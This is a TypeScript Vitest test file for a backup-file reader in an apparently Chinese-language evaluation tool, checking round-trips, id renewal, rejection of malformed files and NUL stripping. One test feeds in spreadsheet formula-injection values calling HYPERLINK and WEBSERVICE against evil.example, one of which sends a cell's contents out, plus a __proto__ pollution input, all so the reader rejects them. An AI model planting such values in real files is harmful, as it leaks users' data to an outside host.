import { describe, it, expect } from 'vitest';
import { backupJson, readBackup } from '../../../src/ui/backup.ts';
import { nationalFramework } from '../../../src/domain/templates.ts';

describe('backup files', () => {
  it('round-trips evaluations', () => {
    const e = nationalFramework();
    const read = readBackup(backupJson([e]), 'a.json', new Set());
    expect(read).toStrictEqual({ ok: true, evaluations: [JSON.parse(JSON.stringify(e))], warnings: [] });
  });

  it('reads a bare evaluation and gives fresh ids to one already stored', () => {
    const e = nationalFramework();
    const read = readBackup(JSON.stringify(e), 'b.json', new Set([e.id]));
    expect(read.ok).toBe(true);
    if (read.ok) {
      expect(read.evaluations[0]!.id).not.toBe(e.id);
      expect(read.evaluations[0]!.meta).toEqual(e.meta);
    }
  });

  it('refuses bad files with a message naming the file, never throwing', () => {
    const cases = ['not json', '[]', '{"evaluations": [{"id": 1}]}', 'null', '{"__proto__": {"polluted": 1}}'];
    for (const text of cases) {
      const read = readBackup(text, '坏文件.json', new Set());
      expect(read.ok, text).toBe(false);
      if (!read.ok) expect(read.message).toContain('坏文件.json');
    }
    expect(({} as Record<string, unknown>).polluted).toBeUndefined();
  });

  it('refuses crafted settings and grade bounds, naming the place', () => {
    const e = JSON.parse(backupJson([nationalFramework()])) as { evaluations: { settings: { decimals: unknown; gradeScale: { bands: { min: unknown }[] } } }[] };
    e.evaluations[0]!.settings.decimals = '2)+0*LEN(HYPERLINK("http://evil.example/"))+ROUND(0,0';
    const decimals = readBackup(JSON.stringify(e), '改过.json', new Set());
    expect(decimals.ok).toBe(false);
    if (!decimals.ok) expect(decimals.message).toMatch(/^文件「改过\.json」中的评价无法读取：评分设置：小数位数不是数字/);
    e.evaluations[0]!.settings.decimals = 2;
    e.evaluations[0]!.settings.gradeScale.bands[1]!.min = '80,"良")&WEBSERVICE("http://evil.example/?d="&C3)&IF(FALSE';
    const band = readBackup(JSON.stringify(e), '改过.json', new Set());
    expect(band.ok).toBe(false);
    if (!band.ok) expect(band.message).toContain('评分设置：等级“良”的下限不是数字');
  });

  it('removes NUL characters and says so', () => {
    const e = nationalFramework();
    e.meta.projectName = '智慧\u0000城管';
    const read = readBackup(backupJson([e]), 'nul.json', new Set());
    expect(read.ok).toBe(true);
    if (read.ok) {
      expect(read.evaluations[0]!.meta.projectName).toBe('智慧城管');
      expect(read.warnings).toEqual(['文件「nul.json」中的评价：已删除文本中的控制字符（如 NUL）：基本信息的项目名称。']);
    }
  });
});
